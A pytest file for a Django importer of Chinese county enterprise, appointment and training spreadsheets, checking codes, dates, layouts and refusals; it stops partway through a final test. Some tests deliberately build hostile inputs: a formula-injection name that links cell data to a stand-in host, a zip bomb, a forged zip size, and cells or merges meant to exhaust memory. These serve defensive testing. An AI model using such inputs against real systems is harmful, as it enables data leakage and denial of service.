"""Files shaped like the ones county bureaus, town governments and statistics offices really
exchange — each kind is read right or refused clearly, never stored wrong. Every test builds
its own workbook (openpyxl), the way Excel, WPS or a script writes it."""

import io
import time
import zipfile
from datetime import date, timedelta

import pytest
from django.utils import timezone
from openpyxl import Workbook

from appointments.models import Appointment
from cqo_registry.importing import read_workbook, run_import
from cqo_registry.importing.parsers import CellError, parse_date
from cqo_registry.importing.reading import ReadLimits, UnreadableFile
from cqo_registry.importing.registry import get_importer_class
from enterprises.models import Enterprise, Person, Town
from training.models import TrainingAttendance, TrainingSession

from .conftest import (
    APPOINTMENT_HEADER,
    ENTERPRISE_HEADER,
    TRAINING_HEADER,
    enterprise_row,
    make_id,
    make_uscc,
)

pytestmark = pytest.mark.django_db


def book(*sheets, hidden=(), merges=(), text_cells=()) -> bytes:
    """An .xlsx of ``sheets`` — each ``(title, rows)`` — with rows hidden, ranges merged and
    cells forced to text (a value starting with ``=`` would otherwise be a formula)."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets:
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
        for number in hidden:
            sheet.row_dimensions[number].hidden = True
        for merge in merges:
            sheet.merge_cells(merge)
        for ref in text_cells:
            sheet[ref].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def run(kind, content, *, create_towns=False, dry_run=False):
    workbook = read_workbook(content, filename="file.xlsx")
    importer = get_importer_class(kind)(create_towns=create_towns, file_name="file.xlsx")
    return run_import(importer, workbook, dry_run=dry_run)


def messages(result) -> list[str]:
    return [str(e) for e in result.errors]


@pytest.fixture
def towns(db):
    return [
        Town.objects.create(name="城关镇", code="340100000001"),
        Town.objects.create(name="双桥街道", code="340100000002"),
    ]


@pytest.fixture
def enterprises(towns):
    rows = [enterprise_row(i) for i in range(1, 6)]
    assert run("enterprises", book(("名录", [ENTERPRISE_HEADER, *rows]))).written


def appointment(i_ent, id_number, name="李质量", **over):
    row = {
        "uscc": make_uscc(i_ent),
        "name": name,
        "id": id_number,
        "position": "副总经理",
        "senior": "是",
        "principal": "否",
        "appointed": date(2021, 1, 5),
        "ended": None,
        "filed": date(2021, 1, 20),
        "mobile": "13900000000",
    }
    row.update(over)
    return list(row.values())


# --- codes in cells --------------------------------------------------------------------------


def test_an_id_number_in_a_number_cell_is_refused_not_stored_wrong(enterprises):
    typed = make_id(1)
    as_excel_keeps_it = float(typed[:-1] + "0")  # Excel keeps 15 significant digits
    result = run(
        "appointments", book(("备案", [APPOINTMENT_HEADER, appointment(1, as_excel_keeps_it)]))
    )
    [message] = messages(result)
    assert message.startswith(
        "第 2 行 [身份证号]：单元格是数字格式，表格软件（Excel、WPS）只保留 15 位有效数字"
    )
    assert "设为“文本”格式" in message
    assert not Person.objects.exists()


def test_a_uscc_in_a_number_cell_is_refused(towns):
    row = enterprise_row(1, uscc=913401000000000001)
    [message] = messages(run("enterprises", book(("名录", [ENTERPRISE_HEADER, row]))))
    assert message.startswith("第 2 行 [统一社会信用代码]：单元格是数字格式")


def test_a_mobile_in_a_number_cell_is_exact_and_accepted_a_landline_is_not(towns, enterprises):
    result = run(
        "appointments",
        book(("备案", [APPOINTMENT_HEADER, appointment(1, make_id(1), mobile=13912345678)])),
    )
    assert result.written and Person.objects.get().mobile == "13912345678"
    row = enterprise_row(9, phone=5505600000)  # 0550-5600000 lost its leading 0
    [message] = messages(run("enterprises", book(("名录", [ENTERPRISE_HEADER, row]))))
    assert "[联系电话]：单元格是数字格式" in message and "开头的 0" in message


def test_lower_case_x_trailing_and_inner_spaces_are_normalised(enterprises):
    with_x = "11010519491231002X"  # GB 11643's own example
    other = make_id(2)
    rows = [
        appointment(1, "11010519491231002x ", name="甲"),
        appointment(2, " " + other[:6] + " " + other[6:], name="乙"),
    ]
    assert run("appointments", book(("备案", [APPOINTMENT_HEADER, *rows]))).written
    assert set(Person.objects.values_list("id_number", flat=True)) == {with_x, other}


def test_an_id_error_quotes_what_was_typed_spaces_included(enterprises):
    typed = " 110105 194912310020"  # a wrong check digit
    [message] = messages(
        run("appointments", book(("备案", [APPOINTMENT_HEADER, appointment(1, typed)])))
    )
    assert f"身份证号“{typed}”校验位不符" in message


def test_a_full_width_uscc_is_normalised(towns):
    code = make_uscc(7)
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in code)
    assert run(
        "enterprises", book(("名录", [ENTERPRISE_HEADER, enterprise_row(7, uscc=full_width)]))
    ).written
    assert Enterprise.objects.get().uscc == code


# --- dates ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [20210105, "20210105", "2021-01-05", "2021/1/5", "2021.1.5", "2021年1月5日", 44201,
     date(2021, 1, 5), "２０２１－０１－０５", "2021-01-05 00:00:00"],
)  # fmt: skip
def test_every_accepted_spelling_of_a_date(towns, cell):
    result = run(
        "enterprises", book(("名录", [ENTERPRISE_HEADER, enterprise_row(1, established=cell)]))
    )
    assert result.written, messages(result)
    assert Enterprise.objects.get().established_on == date(2021, 1, 5)


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        (2021, "“2021”只有年份"),  # never 1905-07-13
        ("2021", "“2021”只有年份"),
        (202101, "“202101”不是有效日期"),
        (123, "“123”不是有效日期"),
        (20211340, "“20211340”不是真实的日期"),
        ("2021-13-40", "“2021-13-40”不是真实的日期"),
        (True, "不是有效日期"),
    ],
)
def test_numbers_that_are_not_dates_are_errors(towns, cell, reason):
    result = run(
        "enterprises", book(("名录", [ENTERPRISE_HEADER, enterprise_row(1, established=cell)]))
    )
    [message] = messages(result)
    assert message.startswith("第 2 行 [成立日期]：") and reason in message
    assert not Enterprise.objects.exists()


# --- layout -----------------------------------------------------------------------------------


def test_title_and_unit_rows_above_and_notes_below(towns):
    rows = [
        ["XX县规模以上企业名录（2021年）"],
        [
            "填报单位：XX县市场监督管理局（盖章）",
            None,
            None,
            None,
            None,
            None,
            None,
            None,
            None,
            "填报日期：2021年1月5日",
        ],
        ENTERPRISE_HEADER,
        enterprise_row(1),
        enterprise_row(2, town="无此镇"),
        [],
        ["制表人：王某某", None, "审核人：李某某"],
        ["填表说明："],
        ["1. 统一社会信用代码为 18 位"],
    ]
    result = run("enterprises", book(("Sheet1", rows), merges=["A1:K1", "A8:K8"]))
    # Excel's row numbers are kept: the bad row is row 5.
    [message] = messages(result)
    assert message.startswith("第 5 行 [所属镇]：镇（街道）“无此镇”不在系统中")
    assert [n.row for n in result.note_rows] == [7, 8, 9]
    good = run("enterprises", book(("Sheet1", rows[:4] + rows[5:]), merges=["A1:K1"]))
    assert good.written and good.rows_read == 1
    assert any("跳过了表格下方的 3 行说明" in line for line in good.summary_lines())


def test_hidden_rows_are_imported_and_counted(towns):
    rows = [ENTERPRISE_HEADER, *[enterprise_row(i) for i in range(1, 5)]]
    result = run("enterprises", book(("Sheet1", rows), hidden=[3, 4]))
    assert result.written and Enterprise.objects.count() == 4
    assert result.hidden_rows_read == 2
    assert "其中 2 行在 Excel 中是隐藏的（已一并导入）" in result.summary_lines()


def test_an_instructions_sheet_first_and_one_sheet_per_town(towns):
    content = book(
        ("填表说明", [["填表说明：1. 统一社会信用代码为18位；2. 日期格式为YYYY-MM-DD"]]),
        ("城关镇", [ENTERPRISE_HEADER, enterprise_row(1), enterprise_row(2)]),
        (
            "双桥街道",
            [
                ENTERPRISE_HEADER,
                enterprise_row(3, town="双桥街道"),
                enterprise_row(4, town="双桥", scale="大型"),
            ],
        ),
    )
    result = run("enterprises", content)
    assert messages(result) == [
        "工作表“双桥街道” 第 3 行 [企业规模]：“大型”应为 规模以上、中小企业 或 微型企业"
    ]
    assert result.sheets_read == ["城关镇", "双桥街道"] and result.sheets_skipped == ["填表说明"]
    assert not Enterprise.objects.exists()
    content = book(
        ("填表说明", [["说明"]]),
        ("城关镇", [ENTERPRISE_HEADER, enterprise_row(1)]),
        ("双桥街道", [ENTERPRISE_HEADER, enterprise_row(3, town="双桥")]),
    )
    result = run("enterprises", content)
    assert result.written and Enterprise.objects.count() == 2
    assert "读取了 2 个工作表：城关镇、双桥街道" in result.summary_lines()


def test_the_same_key_on_two_sheets_names_both_sheets(towns):
    content = book(
        ("城关镇", [ENTERPRISE_HEADER, enterprise_row(1)]),
        ("双桥街道", [ENTERPRISE_HEADER, enterprise_row(1, name="另一家", town="双桥")]),
    )
    [message] = messages(run("enterprises", content))
    assert message.startswith(
        "工作表“双桥街道” 第 2 行 [统一社会信用代码]：与工作表“城关镇”第 2 行是同一条记录"
    )


def test_merged_town_and_scale_cells_give_every_row_their_value(towns):
    rows = [
        ENTERPRISE_HEADER,
        enterprise_row(1),
        enterprise_row(2, town=None, scale=None),
        enterprise_row(3, town=None, scale=None),
    ]
    result = run("enterprises", book(("Sheet1", rows), merges=["C2:C4", "E2:E4"]))
    assert result.written, messages(result)
    assert set(Enterprise.objects.values_list("town__name", "scale")) == {("城关镇", "above")}
    assert result.merged_ranges == 2


def test_headers_as_templates_print_them(towns):
    header = [
        "序号", "*统一社会信用代码", "企业名称\n（全称）", "所属镇（街道）", "行业门类",
        "企业规模（规模以上/中小企业/微型企业）", "是否需聘任首席质量官（是/否）",
        "成立日期(YYYY-MM-DD)", "注销日期", "法定代表人", "联系电话", "地址【选填】",
    ]  # fmt: skip
    result = run("enterprises", book(("Sheet1", [header, [1, *enterprise_row(1)]])))
    assert result.written, messages(result)
    assert Enterprise.objects.get().address == "工业园"


# --- text --------------------------------------------------------------------------------------


def test_town_spellings_are_one_town_and_created_towns_are_listed(towns):
    rows = [
        enterprise_row(1, town="城关"),
        enterprise_row(2, town="城关 镇"),
        enterprise_row(3, town="城关镇 "),
        enterprise_row(4, town="双桥"),
        enterprise_row(5, town="新 安 镇"),
        enterprise_row(6, town="新安"),
    ]
    result = run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, *rows])), create_towns=True)
    assert result.written
    assert result.towns_created == ["新安镇"]
    assert Town.objects.count() == 3
    assert Enterprise.objects.filter(town__name="城关镇").count() == 3
    assert Enterprise.objects.filter(town__name="新安镇").count() == 2


def test_a_name_two_towns_share_is_refused_as_ambiguous(towns):
    Town.objects.create(name="城关街道", code="340100000003")
    [message] = messages(
        run(
            "enterprises",
            book(("Sheet1", [ENTERPRISE_HEADER, enterprise_row(1, town="城关")])),
            create_towns=True,
        )
    )
    assert "“城关”可能是" in message and "城关镇" in message and "城关街道" in message


def test_training_titles_in_full_and_half_width_brackets_are_one_session(db):
    rows = [
        [make_id(1), "甲", "质量月综合技能培训（第一期）", date(2021, 9, 15), 8, "合格"],
        [make_id(2), "乙", "质量月综合技能培训(第一期)", date(2021, 9, 15), 8, "不合格"],
        [make_id(3), "丙", "质量月综合技能培训（第一期） ", date(2021, 9, 15), 8, "通过"],
    ]
    result = run("training", book(("Sheet1", [TRAINING_HEADER, *rows])))
    assert result.written, messages(result)
    assert TrainingSession.objects.count() == 1
    assert dict(TrainingAttendance.objects.values_list("person__name", "passed")) == {
        "甲": True,
        "乙": False,
        "丙": True,
    }


def test_names_padded_to_align_are_one_person(db):
    rows = [
        [make_id(1), "张  三", "任职培训", date(2021, 9, 15), 8, "是"],
        [make_id(1), "张三", "质量月培训", date(2021, 9, 20), 8, "是"],
    ]
    assert run("training", book(("Sheet1", [TRAINING_HEADER, *rows]))).written
    assert Person.objects.get().name == "张三"


# --- conflicts and re-imports -------------------------------------------------------------------


def test_the_same_person_with_two_mobiles_keeps_the_latest_and_reimports_unchanged(towns):
    assert run(
        "enterprises", book(("名录", [ENTERPRISE_HEADER, enterprise_row(1), enterprise_row(2)]))
    ).written
    rows = [
        appointment(
            1,
            make_id(1),
            name="赵某某",
            appointed=date(2021, 6, 1),
            filed=date(2021, 6, 8),
            mobile="13900002222",
        ),
        appointment(
            2,
            make_id(1),
            name="赵某某",
            appointed=date(2021, 3, 1),
            filed=date(2021, 3, 10),
            mobile="13900001111",
        ),
    ]
    content = book(("备案", [APPOINTMENT_HEADER, *rows]))
    first = run("appointments", content)
    assert first.written
    [warning] = first.warnings
    assert (warning.row, warning.column) == (3, "手机") and "第 2 行" in warning.reason
    person = Person.objects.get()
    assert person.mobile == "13900002222"  # row 2: the later appointment
    history = person.history.count()
    again = run("appointments", content)
    assert again.written
    assert again.counts["人员"] == {"created": 0, "updated": 0, "unchanged": 1}
    assert again.counts["聘任"] == {"created": 0, "updated": 0, "unchanged": 2}
    person.refresh_from_db()
    assert person.mobile == "13900002222" and person.history.count() == history


def test_conflicting_rows_for_one_key_name_both_rows(enterprises):
    rows = [
        appointment(1, make_id(1)),
        appointment(1, make_id(1), position="总经理"),
        appointment(2, make_id(2)),
        appointment(2, make_id(2)),
    ]
    result = run("appointments", book(("备案", [APPOINTMENT_HEADER, *rows])))
    assert messages(result) == [
        "第 3 行 [身份证号]：与第 2 行是同一条记录，但职务不同：请核对后只保留一行"
    ]
    assert [str(w) for w in result.warnings] == [
        "第 5 行 [身份证号]：与第 4 行完全相同，按一行导入"
    ]
    assert not Appointment.objects.exists()


def test_same_name_other_code_and_filing_before_appointment_are_warnings(towns, enterprises):
    rows = [enterprise_row(8, name="测试1号有限公司")]  # enterprise 1's name
    result = run("enterprises", book(("名录", [ENTERPRISE_HEADER, *rows])))
    assert result.written
    assert "系统中已有同名企业" in result.warnings[0].reason
    rows = [appointment(1, make_id(1), appointed=date(2021, 3, 1), filed=date(2021, 2, 1))]
    result = run("appointments", book(("备案", [APPOINTMENT_HEADER, *rows])))
    assert result.written
    assert [str(w) for w in result.warnings] == [
        "第 2 行 [备案日期]：备案日期早于聘任日期（2021-03-01），请核对"
    ]


def test_every_accepted_file_reimports_without_a_change_or_a_history_row(towns):
    rows = [enterprise_row(i, established=f"2015年{i}月1日", town="城关") for i in range(1, 6)]
    content = book(("名录", [ENTERPRISE_HEADER, *rows]), hidden=[3])
    assert run("enterprises", content).written
    history = Enterprise.history.count()
    again = run("enterprises", content)
    assert again.counts["企业"] == {"created": 0, "updated": 0, "unchanged": 5}
    assert Enterprise.history.count() == history


def test_names_that_look_like_formulas_import_as_text(towns, enterprises):
    rows = [
        enterprise_row(11, name='=HYPERLINK("http://example.invalid/?q="&A2,"点击查看详情")'),
        enterprise_row(12, name="+1+2测试公司"),
        enterprise_row(13, name="@SUM(1,2)测试公司"),
        enterprise_row(14, name="-3+4测试公司", legal="=2+2"),
    ]
    content = book(("名录", [ENTERPRISE_HEADER, *rows]), text_cells=["B2", "I5"])
    assert run("enterprises", content).written
    names = set(
        Enterprise.objects.filter(uscc__in=[make_uscc(i) for i in range(11, 15)]).values_list(
            "name", flat=True
        )
    )
    assert names == {r[1] for r in rows}


# --- formulas, limits and unreadable files ------------------------------------------------------


def test_a_formula_without_a_saved_value_says_so(towns):
    rows = [
        ENTERPRISE_HEADER,
        enterprise_row(1, name='=CONCAT("来安","测试")', phone="=13900000000+1"),
        enterprise_row(2, established="=DATE(2021,1,5)"),
    ]
    result = run("enterprises", book(("Sheet1", rows)))
    reason = (
        "是公式，但文件里没有保存计算结果（程序生成的文件常见）："
        "请用 Excel 或 WPS 打开、保存后再导入"
    )
    assert messages(result) == [
        f"第 2 行 [企业名称]：单元格 B2 {reason}",
        f"第 2 行 [联系电话]：单元格 J2 {reason}",
        f"第 3 行 [成立日期]：单元格 G3 {reason}",
    ]


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_in_seconds_by_its_declared_size():
    bomb = _zip(
        {"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"<c/>" * (5 * 1024 * 1024)}
    )
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match="解压后超过 1 MB"):
        read_workbook(
            bomb, limits=ReadLimits(upload_bytes=10**8, unpacked_bytes=1024 * 1024, cells=10**9)
        )
    assert time.perf_counter() - started < 5


def test_a_zip_that_lies_about_its_size_is_refused():
    content = book(("Sheet1", [ENTERPRISE_HEADER, *[enterprise_row(i) for i in range(200)]]))
    assert zipfile.ZipFile(io.BytesIO(content)).getinfo("xl/worksheets/sheet1.xml").file_size > 100
    # Declare 100 bytes in the sheet's central directory entry (uncompressed size, offset 24).
    name = content.find(b"xl/worksheets/sheet1.xml", content.find(b"PK\x01\x02"))
    entry = content.rfind(b"PK\x01\x02", 0, name)
    lied = content[: entry + 24] + (100).to_bytes(4, "little") + content[entry + 28 :]
    limits = ReadLimits(upload_bytes=10**8, unpacked_bytes=10**8, cells=10**9)
    with pytest.raises(UnreadableFile, match="文件已损坏"):
        read_workbook(lied, limits=limits)


def test_too_many_cells_and_one_far_away_cell_are_refused():
    many = book(("Sheet1", [[f"r{r}c{c}" for c in range(20)] for r in range(100)]))
    with pytest.raises(UnreadableFile, match="单元格超过 1,000 个"):
        read_workbook(many, limits=ReadLimits(upload_bytes=10**8, unpacked_bytes=10**8, cells=1000))
    workbook = Workbook()
    workbook.active["A1"] = "统一社会信用代码"
    workbook.active["XFD1048576"] = "x"  # 17 billion cells to a dense reader
    buffer = io.BytesIO()
    workbook.save(buffer)
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match="已使用区域过大"):
        read_workbook(buffer.getvalue())
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"PK\x03\x04 broken", "a.xlsx", "文件已损坏或不是有效的 Excel 文件"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + "EncryptedPackage".encode("utf-16-le")
            + b"\0" * 512,
            "a.xlsx",
            "设置了打开密码",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "a.xls", "文件已损坏"),
        (b"name,uscc\n", "a.csv", "不支持的文件类型“.csv”"),
        (b"<html></html>", "a.xlsx", "这不是 Excel 文件"),
    ],
)
def test_unreadable_files_say_why_in_chinese(content, filename, message):
    with pytest.raises(UnreadableFile, match=message) as error:
        read_workbook(content, filename=filename)
    assert not any(
        word in str(error.value) for word in ("Zip", "zip", "error", "Error", "os error")
    )


def test_a_missing_file_is_named_in_chinese(tmp_path):
    with pytest.raises(UnreadableFile, match="找不到文件"):
        read_workbook(tmp_path / "无此文件.xlsx")


def ods(rows_xml: str) -> bytes:
    """A minimal OpenDocument spreadsheet (what LibreOffice and WPS save as .ods)."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="名录">'
        f"{rows_xml}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("content.xml", content)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" '
            'manifest:media-type="text/xml"/></manifest:manifest>',
        )
    return buffer.getvalue()


def ods_row(values) -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
        if v not in (None, "")
        else "<table:table-cell/>"
        for v in values
    )
    return f"<table:table-row>{cells}</table:table-row>"


def test_an_ods_file_imports(towns):
    row = [str(v) if v is not None else "" for v in enterprise_row(1)]
    row[6] = "2010-01-01"
    content = ods(ods_row(ENTERPRISE_HEADER) + ods_row(row))
    workbook = read_workbook(content, filename="名录.ods")
    assert workbook.format == "ods"
    result = run_import(get_importer_class("enterprises")(), workbook)
    assert result.written, messages(result)
    assert Enterprise.objects.get().uscc == make_uscc(1)


def test_an_ods_whose_repeats_reach_far_is_refused_before_it_is_expanded():
    """One cell repeated to the last row and column: calamine would ask for 17 billion cells."""
    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    far = (
        f"<table:table-row>{cell}</table:table-row>"
        '<table:table-row table:number-rows-repeated="1048574">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        '<table:table-row><table:table-cell table:number-columns-repeated="16383"/>'
        f"{cell}</table:table-row>"
    )
    with pytest.raises(UnreadableFile, match="已使用区域过大"):
        read_workbook(ods(far), filename="x.ods")
    wide = (
        '<table:table-row><table:table-cell office:value-type="string" '
        'table:number-columns-repeated="3000"><text:p>x</text:p></table:table-cell>'
        "</table:table-row>"
    )
    with pytest.raises(UnreadableFile, match="单元格超过 1,000 个"):
        read_workbook(
            ods(wide),
            filename="x.ods",
            limits=ReadLimits(upload_bytes=10**8, unpacked_bytes=10**8, cells=1000),
        )


def test_a_file_this_wrong_stops_at_twenty_thousand_errors(towns, monkeypatch):
    from cqo_registry.importing import base

    monkeypatch.setattr(base, "MAX_ERRORS", 5)
    rows = [enterprise_row(i, town="无此镇") for i in range(1, 20)]
    result = run("enterprises", book(("名录", [ENTERPRISE_HEADER, *rows])))
    assert len(result.errors) == 6
    assert "错误超过 5 处，从这一行起不再检查" in str(result.errors[-1])


# --- kinds found by trying to break the first version ----------------------------------------


def test_a_merged_range_reaching_far_is_refused_before_it_is_laid_out(towns):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(ENTERPRISE_HEADER)
    sheet.append(enterprise_row(1))
    sheet.merge_cells("K2:K1048576")  # 5 KB on disk, a million rows of 必填 once filled
    buffer = io.BytesIO()
    workbook.save(buffer)
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match="已使用区域过大"):
        read_workbook(buffer.getvalue())
    assert time.perf_counter() - started < 5


def test_an_xls_with_one_far_cell_is_refused_without_laying_it_out():
    import resource

    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("S")
    sheet.write(0, 0, "统一社会信用代码")
    sheet.write(65535, 255, "x")  # 16.7 million cells to a dense reader
    buffer = io.BytesIO()
    book.save(buffer)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UnreadableFile, match="已使用区域过大"):
        read_workbook(buffer.getvalue(), filename="x.xls")
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100


def test_hidden_rows_of_an_xls_are_counted(towns):
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("名录")
    rows = [ENTERPRISE_HEADER, *[enterprise_row(i) for i in range(1, 4)]]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value.isoformat() if isinstance(value, date) else value)
    sheet.row(2).hidden = True
    buffer = io.BytesIO()
    book.save(buffer)
    workbook = read_workbook(buffer.getvalue(), filename="名录.xls")
    result = run_import(get_importer_class("enterprises")(), workbook)
    assert result.written, messages(result)
    assert result.hidden_rows_read == 1


def test_a_formula_whose_result_is_the_empty_string_has_a_value(towns):
    content = book(("Sheet1", [ENTERPRISE_HEADER, enterprise_row(1)]))
    # What Excel writes for =IF(…,"",…) in 注销日期: a text cell with an empty value.
    archive = zipfile.ZipFile(io.BytesIO(content))
    parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    formula = b'<c r="H2" t="str"><f>IF(1=1,"",1)</f><v></v></c>'
    sheet = sheet.replace(b'<c r="I2"', formula + b'<c r="I2"', 1)
    parts["xl/worksheets/sheet1.xml"] = sheet
    result = run("enterprises", _zip(parts))
    assert result.written, messages(result)
    assert Enterprise.objects.get().deregistered_on is None


@pytest.mark.parametrize(("column", "cell"), [("所属镇", "C2"), ("成立日期", "G2")])
def test_a_cell_showing_an_excel_error_is_named(towns, column, cell):
    content = book(("Sheet1", [ENTERPRISE_HEADER, enterprise_row(1)]))
    archive = zipfile.ZipFile(io.BytesIO(content))
    parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    start = sheet.index(f'<c r="{cell}"'.encode())
    end = sheet.index(b"</c>", start) + 4
    error = f'<c r="{cell}" t="e"><f>VLOOKUP(A2,Z:Z,1,0)</f><v>#N/A</v></c>'.encode()
    parts["xl/worksheets/sheet1.xml"] = sheet[:start] + error + sheet[end:]
    [message] = messages(run("enterprises", _zip(parts)))
    assert message.startswith(f"第 2 行 [{column}]：单元格 {cell} 显示错误值 #N/A")
    assert not Enterprise.objects.exists()


def test_rows_with_only_a_serial_number_or_a_default_are_skipped_and_counted(towns):
    header = ["序号", *ENTERPRISE_HEADER]
    rows = [[1, *enterprise_row(1)], [2, *enterprise_row(2)]]
    rows += [[n] for n in range(3, 20)]  # numbered in advance, never filled
    rows += [[None, None, None, None, None, None, "是"] for _ in range(3)]  # a default filled down
    result = run("enterprises", book(("Sheet1", [header, *rows])))
    assert result.written, messages(result)
    assert result.unfilled_rows == 20
    assert any("跳过了 20 行" in line for line in result.summary_lines())


def test_a_hidden_sheet_is_not_read_and_says_so(towns):
    workbook = Workbook()
    shown = workbook.active
    shown.title = "2024"
    shown.append(ENTERPRISE_HEADER)
    shown.append(enterprise_row(1))
    old = workbook.create_sheet("旧数据")
    old.append(ENTERPRISE_HEADER)
    old.append(enterprise_row(2, name="旧的隐藏数据公司"))
    old.sheet_state = "hidden"
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = run("enterprises", buffer.getvalue())
    assert result.written
    assert list(Enterprise.objects.values_list("name", flat=True)) == ["测试1号有限公司"]
    assert (
        "隐藏的工作表未读取：旧数据（如要导入，请先在 Excel 中取消隐藏）" in result.summary_lines()
    )


def test_a_repeated_header_row_is_skipped_not_read_as_data(towns):
    rows = [ENTERPRISE_HEADER, enterprise_row(1), ENTERPRISE_HEADER, enterprise_row(2)]
    result = run("enterprises", book(("Sheet1", rows)))
    assert result.written, messages(result)
    assert [(n.row, n.reason) for n in result.note_rows] == [(3, "重复的表头行")]


def test_towns_with_a_bracketed_note_or_traditional_suffix_and_the_fullest_name(towns):
    rows = [
        enterprise_row(1, town="龙山"),
        enterprise_row(2, town="龙山镇（街道）"),
        enterprise_row(3, town=" 龙 山 "),
        enterprise_row(4, town="龙山镇"),
        enterprise_row(5, town="城关鎮"),
    ]
    result = run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, *rows])), create_towns=True)
    assert result.written, messages(result)
    assert result.towns_created == ["龙山镇"]
    assert set(Town.objects.values_list("name", flat=True)) == {"城关镇", "双桥街道", "龙山镇"}
    assert Enterprise.objects.filter(town__name="龙山镇").count() == 4


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        (date(2099, 1, 1), "晚于今天"),
        ("9999-12-31", "晚于今天"),
        ("1899-12-31", "早于 1900 年"),
    ],
)
def test_dates_in_the_future_or_before_1900_are_errors(towns, cell, reason):
    row = enterprise_row(1, established=date(2010, 1, 1), deregistered=cell)
    [message] = messages(run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, row]))))
    assert "[注销日期]" in message and reason in message


def test_today_in_the_bureau_zone_is_the_last_day_accepted():
    """Today and tomorrow as the bureau's clock (Asia/Shanghai) has them, whatever the
    server's own clock says: the file may record today, not tomorrow."""
    today = timezone.localdate()
    assert parse_date(today.isoformat()) == today
    with pytest.raises(CellError, match="晚于今天"):
        parse_date((today + timedelta(days=1)).isoformat())


@pytest.mark.parametrize("cell", ["2021-01-05 08:30:00", 44201.5, "2021/1/5 8:30"])
def test_a_date_with_a_time_of_day_is_the_day(towns, cell):
    row = enterprise_row(1, established=cell)
    assert run("enterprises", book(("Sheet1", [ENTERPRISE_HEADER, row]))).written
    assert Enterprise.objects.get().established_on == date(2021, 1, 5)


def test_an_appointment_before_the_enterprise_existed_is_a_warning(towns):
    assert run(
        "enterprises",
        book(("名录", [ENTERPRISE_HEADER, enterprise_row(1, established=date(2020, 6, 1))])),
    ).written
    row = appointment(1, make_id(1), appointed=date(2019, 1, 1), filed=date(2019, 1, 10))
    result = run("appointments", book(("备案", [APPOINTMENT_HEADER, row])))
    assert result.written
    assert [str(w) for w in result.warnings] == [
        "第 2 行 [聘任日期]：聘任日期早于企业的成立日期（2020-06-01），请核对"
    ]


def test_a_code_shown_in_scientific_notation_is_explained(enterprises):
    [message] = messages(
        run("appointments", book(("备案", [APPOINTMENT_HEADER, appointment(1, "3.40104E+17")])))
    )
    assert "科学计数法" in message


@pytest.mark.parametrize(
    "invisible",
    ["\u202e", "\u200e", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad"],
    ids=["rtl-override", "ltr-mark", "zero-width-space", "zero-width-joiner", "word-joiner",
         "bom", "soft-hyphen"],
)  # fmt: skip
def test_invisible_characters_are_not_stored(towns, invisible):
    """Copied from a web page, a name carries characters no one sees: stored without them, the
    name is the one a search and the duplicate check find."""
    name = f"城关{invisible}镇测试公司"
    assert run(
        "enterprises", book(("Sheet1", [ENTERPRISE_HEADER, enterprise_row(1, name=name)]))
    ).written
    assert Enterprise.objects.get().name == "城关镇测试公司"


def test_the_cycle_collector_is_paused_while_an_import_runs_and_resumed_after(towns):
    """The runner pauses Python's cyclic garbage collector (its walks of the whole heap were a
    tenth of a 20,000-row import's work, bench/RESULTS.md) — and always resumes it, also when
    the file is refused or an import fails."""
    import gc

    importer = get_importer_class("enterprises")(file_name="file.xlsx")
    seen = []
